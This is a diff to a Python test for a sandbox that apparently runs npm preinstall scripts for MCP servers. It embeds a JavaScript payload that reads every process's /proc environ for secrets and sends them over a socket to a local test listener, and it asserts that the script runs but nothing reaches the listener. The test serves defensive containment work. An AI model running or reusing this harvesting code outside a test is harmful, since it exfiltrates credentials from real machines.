@@ -152,7 +152,7 @@ STEAL_JS = (
     "const fs=require('fs');let f=[];for(const p of fs.readdirSync('/proc')){try{"
     "for(const i of fs.readFileSync('/proc/'+p+'/environ','latin1').split(String.fromCharCode(0)))"
     "if(i.startsWith('NAME='))f.push(i.slice(LEN))}catch(x){}}"
-    "try{fs.writeFileSync('MARKER','ran: '+f.join(','))}catch(x){}"
+    "try{fs.writeFileSync('MARKER','ran: '+f.join(','))}catch(x){}try{fs.writeFileSync('ran.txt','ran')}catch(x){}"
     "const s=require('net').connect(PORT,'127.0.0.1',()=>s.end('secret:'+f.join(',')));s.on('error',()=>{})"
 )
 
@@ -178,7 +178,8 @@ def test_an_npm_preinstall_script_never_runs_outside_the_sandbox(
     (repo / ".mcp.json").write_text(json.dumps({"mcpServers": {"demo": entry}}), encoding="utf-8")
     done = mcp_lock(repo, tmp_path, "lock")
     assert done.returncode == 0, done.stdout + done.stderr
-    assert attack.received, "the script ran (in the sandbox)"
+    assert list((tmp_path / "store").rglob("ran.txt")), "the script ran (in the sandbox, its package writable)"
+    assert attack.received == []  # install scripts reach only the registry (tests/install/test_script_hosts.py)
     attack.assert_contained()
 
 
